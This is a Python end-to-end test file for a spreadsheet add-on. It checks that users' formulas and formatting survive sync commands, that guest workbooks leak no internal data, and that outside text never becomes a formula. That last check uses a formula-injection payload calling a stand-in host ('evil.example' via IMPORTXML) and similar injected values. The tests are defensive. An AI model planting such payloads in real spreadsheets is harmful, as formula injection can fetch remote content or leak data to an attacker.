"""Failures 8, 9, 16 and 17: what people put into a workbook stays; what they must not see is not there."""

from __future__ import annotations

import json
import re
from typing import Any

from tests.e2e.failures.helpers import (
    BACKLOG,
    cells_of,
    formulas_of,
    move_card,
    put_in_progress,
    read_raw,
    send_requests,
    sheet_of,
    start_period,
)
from tests.harness.assertions import assert_answer
from tests.harness.fakes.workbooks import EVERYTHING
from tests.harness.office import MANAGER, TEAM, WEBHOOK_SECRET, Office
from tests.harness.snapshots import difference

EVIL = '=IMPORTXML("http://evil.example";"//a")'


#: A word by which people's formulas are known among ours.
OURS = 'LEN("своё")'

#: Formulas inside the tables, in columns and cells beside them, and two that fill a whole column.
FORMULAS = {
    "Бэклог": {
        "D5": f'=IF({OURS}>0;"до "&TEXT(1;"0");"")',
        "G5": f"=LEN(C5)+{OURS}",
        "G6": f"=G5+{OURS}",
        "Q1": f"=ARRAYFORMULA(LEN(C1:C)+{OURS})",
        "R5": f"=LEN(C5)*2+{OURS}",
        "S120": f"=SUM(G:G)+{OURS}",
    },
    "В работе": {"P1": f"=ARRAYFORMULA(LEN(B1:B)+{OURS})", "R120": f"=COUNTA(A:A)+{OURS}"},
}


def people_write_formulas(office: Office) -> None:
    """Put ``FORMULAS`` into the sheets, and one on the first tab that shows a task of the backlog."""
    book = office.book()
    for key in ("backlog", "in_progress"):
        wider = {"sheetId": book.tab(key).sheet_id, "dimension": "COLUMNS", "length": 4}
        send_requests(office, {"appendDimension": wider})
    for title, formulas in FORMULAS.items():
        typed = ({"sheet": title, "cell": cell, "text": text} for cell, text in formulas.items())
        office.edit(*({"type": "type", **one} for one in typed))
    office.edit({"type": "type", "sheet": "Клиент", "cell": "E30", "text": "='Бэклог'!C5"})


def own_formulas(office: Office) -> list[tuple[str, int, str]]:
    """People's formulas with tab and column; rows are counted from the formula's own, except the first."""
    resource = read_raw(office)
    return sorted(
        (
            title,
            column,
            re.sub(r"(?<=[A-Z])([2-9]\d*|1\d+)", lambda one, at=row: f"[{int(one[1]) - at}]", text),
        )
        for title in FORMULAS
        for (row, column), text in formulas_of(sheet_of(resource, title)).items()
        if OURS in text
    )


def test_failure_08_formulas_of_people_survive_every_command(office: Office) -> None:
    """In cells of the table, beside and below it, and those that fill a column: as before each command."""
    office.fill_backlog(*BACKLOG, {"task": "Неясная"}, {"task": "Вторая неясная"})
    people_write_formulas(office)
    before = own_formulas(office)
    assert len(before) == sum(len(formulas) for formulas in FORMULAS.values())

    assert office.do("estimate")["outcome"] == "partial"
    assert own_formulas(office) == before
    start_period(office)
    assert own_formulas(office) == before
    assert office.do("push")["outcome"] == "done"
    move_card(office, "Статья", 1)
    office.settle()
    assert office.do("refresh")["outcome"] == "done"
    assert office.do("estimate")["outcome"] == "partial"

    assert own_formulas(office) == before
    everything = read_raw(office)
    backlog, work, client = (
        cells_of(sheet_of(everything, title)) for title in ("Бэклог", "В работе", "Клиент")
    )
    unclear, banner, own = len("Неясная"), len("Баннер"), len("своё")
    assert backlog[1, 16]["effectiveValue"] == {"numberValue": unclear + own}
    assert backlog[1, 17]["effectiveValue"] == {"numberValue": 2 * unclear + own}
    assert work[1, 15]["effectiveValue"] == {"numberValue": banner + own}
    # The task that the first tab shows stands in row 2 now.
    assert client[29, 4]["userEnteredValue"] == {"formulaValue": "='Бэклог'!C2"}


#: Columns whose values the add-on writes.
OWNED = {
    "backlog": {"id", "hours.design", "hours.copy", "hours.development", "hours_total", "source", "reason"},
    "in_progress": {"specialist", "due_on", "status", "progress", "logged_hours", "card"},
}


def decorate(office: Office) -> None:
    """Colours, widths, notes, choices, rules and freezes of people's own."""
    for title in ("Бэклог", "В работе"):
        sheet_id = sheet_of(read_raw(office), title)["properties"]["sheetId"]
        area = {"sheetId": sheet_id, "startRowIndex": 1, "endRowIndex": 4}
        rule = {
            "ranges": [{**area, "startColumnIndex": 2, "endColumnIndex": 3}],
            "booleanRule": {
                "condition": {"type": "TEXT_CONTAINS", "values": [{"userEnteredValue": "ан"}]},
                "format": {"textFormat": {"bold": True}},
            },
        }
        colour = {"backgroundColor": {"red": 1, "green": 0.5, "blue": 0.2}, "textFormat": {"italic": True}}
        size = {"range": {"sheetId": sheet_id, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 4}}
        choice = {
            "condition": {"type": "ONE_OF_LIST", "values": [{"userEnteredValue": "да"}]},
            "strict": False,
        }
        frozen = {"sheetId": sheet_id, "gridProperties": {"frozenRowCount": 1, "frozenColumnCount": 3}}
        send_requests(
            office,
            {"addConditionalFormatRule": {"rule": rule, "index": 0}},
            {
                "repeatCell": {
                    "range": area,
                    "cell": {"userEnteredFormat": colour},
                    "fields": "userEnteredFormat(backgroundColor,textFormat.italic)",
                }
            },
            {"updateDimensionProperties": {**size, "properties": {"pixelSize": 333}, "fields": "pixelSize"}},
            {
                "setDataValidation": {
                    "range": {**area, "startColumnIndex": 3, "endColumnIndex": 4},
                    "rule": choice,
                }
            },
            {
                "updateSheetProperties": {
                    "properties": frozen,
                    "fields": "gridProperties(frozenRowCount,frozenColumnCount)",
                }
            },
        )
        office.edit({"type": "note", "sheet": title, "cell": "C3", "text": "не трогать"})


def outside_owned_cells(office: Office) -> dict[str, Any]:
    """The workbook without what the add-on may write: values of its cells, its notes, marks of rows."""
    ranges = [
        f"'{title}'!A1:{last}12" for title, last in (("Бэклог", "P"), ("В работе", "O"), ("Готово", "I"))
    ]
    resource = read_raw(office, fields=EVERYTHING, ranges=ranges)
    del resource["developerMetadata"]
    book = office.book()
    free = {
        (tab.sheet_id, tab.columns[column])
        for key, columns in OWNED.items()
        for tab in [book.tab(key)]
        for column in columns
    }
    fields = {(one.sheet_id, one.row_index, one.column_index) for one in book.fields.values()}
    schedule = book.tab("schedule").sheet_id
    for sheet in resource["sheets"]:
        sheet_id = sheet["properties"].get("sheetId", 0)
        for data in sheet["data"]:
            for line in data.get("rowMetadata", ()):
                line.pop("developerMetadata", None)
        for (row, column), cell in cells_of(sheet).items():
            is_header = row == 0 and sheet_id != schedule
            is_owned = sheet_id == schedule or (sheet_id, column) in free or (sheet_id, row, column) in fields
            # What formulas show follows from what the add-on writes.
            if "formulaValue" in cell.get("userEnteredValue", {}) or (is_owned and not is_header):
                cell.pop("effectiveValue", None)
            if is_owned and not is_header:
                cell.pop("userEnteredValue", None)
                cell.pop("note", None)
    return resource


def test_failure_09_formats_rules_and_notes_are_never_touched(office: Office) -> None:
    """All of the workbook but the add-on's own values is equal before and after each command."""
    office.fill_backlog(*BACKLOG, {"task": "Неясная"})
    decorate(office)

    before = outside_owned_cells(office)
    assert office.do("estimate")["outcome"] == "partial"
    assert difference(before, outside_owned_cells(office)) is None

    looks = looks_by_task(office)
    properties = {
        one["properties"]["title"]: one["properties"]["gridProperties"] for one in read_raw(office)["sheets"]
    }
    start_period(office)
    assert looks_by_task(office) == {"Неясная": looks["Неясная"]}
    for sheet in read_raw(office)["sheets"]:
        title, grid = sheet["properties"]["title"], sheet["properties"]["gridProperties"]
        for key in ("frozenRowCount", "frozenColumnCount", "columnCount"):
            assert grid.get(key) == properties.get(title, grid).get(key), (title, key)
    decorate(office)

    before = outside_owned_cells(office)
    assert office.do("push")["outcome"] == "done"
    move_card(office, "Статья", 2)
    office.settle()
    assert office.do("refresh")["outcome"] == "done"
    assert difference(before, outside_owned_cells(office)) is None


def looks_by_task(office: Office) -> dict[str, list[Any]]:
    """Formats, choices and notes of people's cells of the backlog by the task in their row."""
    tab = office.book().tab("backlog")
    own = {tab.columns[column] for column in OWNED["backlog"]}
    rows: dict[int, list[Any]] = {}
    cells = cells_of(
        sheet_of(read_raw(office, fields=EVERYTHING, ranges=[f"'{tab.title}'!A1:O12"]), tab.title)
    )
    for (row, column), cell in cells.items():
        if column not in own:
            kept = {
                key: cell.get(key)
                for key in ("userEnteredFormat", "dataValidation", "note", "userEnteredValue")
            }
            rows.setdefault(row, []).append((column, kept))
    column = tab.column("task")
    tasks = {row.index: tab.cell(row, "task").value for row in tab.rows if tab.cell(row, "task").text}
    assert column == 2
    return {str(task): rows[index] for index, task in tasks.items()}


#: What may carry a word. Choices of cells are looked at in the first rows only: they are the same below.
EVERYTHING_BUT_LOOKS = (
    "properties(title),namedRanges,developerMetadata,"
    "sheets(properties,developerMetadata,protectedRanges,conditionalFormats,filterViews,charts,"
    "data(rowMetadata.developerMetadata,columnMetadata.developerMetadata,"
    "rowData.values(userEnteredValue,effectiveValue,formattedValue,hyperlink,note)))"
)
CHOICES = "sheets.data.rowData.values.dataValidation"


def test_failure_16_a_guest_finds_nothing_internal(office: Office) -> None:
    """No cell, note, hidden thing, metadata, name, protection or property speaks of others or of secrets."""
    assert office.agency is not None
    office.create_client(client_name="Стоматология «Улыбка»", project_name="Реклама", code="УЛБ")
    put_in_progress(office, {"task": "Тайный заказ", "work_type": "Лендинг", "hours_development": "33"})
    other_id = office.client_id
    office.create_client(client_name="Кофейня", project_name="Меню", code="КФН")
    put_in_progress(office, *BACKLOG, {"task": "Не влезет", "hours_development": "30"})
    move_card(office, "Статья", 3)
    office.kaiten("POST", f"/cards/{office.cards()[0]['id']}/comments", text="Клиент зануда")
    office.settle()
    assert office.do("refresh")["outcome"] == "done"

    google = office.servers.google
    everything = office.http.get(
        f"{google}/v4/spreadsheets/{office.client_id}", params={"fields": "*"}
    ).json()
    file = office.http.get(f"{google}/drive/v3/files/{office.client_id}", params={"fields": "*"}).json()
    for sheet in everything["sheets"]:
        # Who may edit a protected range is told to those who may edit, and never to a reader.
        for protected in sheet.get("protectedRanges", ()):
            protected.pop("editors", None)
    for key in ("owners", "lastModifyingUser", "parents"):
        file.pop(key, None)
    sizes = {
        one["properties"]["title"]: one["properties"]["gridProperties"]["rowCount"]
        for one in everything["sheets"]
    }
    ranges = [f"'{title}'!1:{min(rows, 5)}" for title, rows in sizes.items()]
    choices = read_raw(office, fields=CHOICES, ranges=ranges)
    seen = json.dumps([everything, choices, file], ensure_ascii=False)

    others = ("Улыбка", "УЛБ", "Тайный", "Реклама", other_id, "Заря", "ЗРН")
    people = [str(one["email"]) for one in TEAM] + [MANAGER]
    secrets = (WEBHOOK_SECRET, "local-1", office.agency.spreadsheet_id, office.agency.name, "зануда")
    found = [word for word in (*others, *people, *secrets) if word in seen]
    assert found == []
    assert "КФН-3" in seen
    assert "другие проекты" in seen
    permissions = office.http.get(
        f"{google}/drive/v3/files/{office.client_id}/permissions", params={"fields": "permissions(type,role)"}
    ).json()["permissions"]
    assert [one for one in permissions if one["role"] != "owner"] == [{"type": "anyone", "role": "reader"}]


def test_failure_17_text_from_outside_is_never_a_formula(office: Office) -> None:
    """A client's text, a title in the tracker, names of people and projects that look like formulas."""
    assert office.agency is not None
    agency_id = office.agency.spreadsheet_id
    tab = office.book(agency_id).tab("specialists")
    start_at = {"sheetId": tab.sheet_id, "rowIndex": tab.header_index + 1, "columnIndex": tab.column("name")}
    name = {"rows": [{"values": [{"userEnteredValue": {"stringValue": EVIL}}]}], "fields": "userEnteredValue"}
    send_requests(office, {"updateCells": {"start": start_at, **name}}, spreadsheet_id=agency_id)
    office.create_client(client_name=EVIL, project_name="=1+1", code="ЗЛО", responsible="@SUM(1)")
    # Pasted: what is typed with an equals sign in front is a formula of the person who types it.
    office.paste_backlog(
        [{"task": EVIL, "result": "=A1", "hours.design": 2.0}, {"task": "+7 (495)", "work_type": "-1+1"}]
    )

    put_in_progress(office)
    [card] = [one for one in office.cards() if EVIL in one["title"]]
    office.kaiten("PATCH", f"/cards/{card['id']}", title=EVIL, asap=True)
    office.settle()
    assert_answer(office.do("refresh"), "done", 200)

    for book_id in (office.client_id, agency_id):
        for sheet in read_raw(office, book_id)["sheets"]:
            for place, formula in formulas_of(sheet).items():
                assert "IMPORTXML" not in formula, (sheet["properties"]["title"], place)
                assert formula not in ("=1+1", "=A1"), (sheet["properties"]["title"], place)
    assert office.table("in_progress", "action", "specialist") == [(EVIL, EVIL)]
    assert office.book().field("client_name").cell.value == EVIL
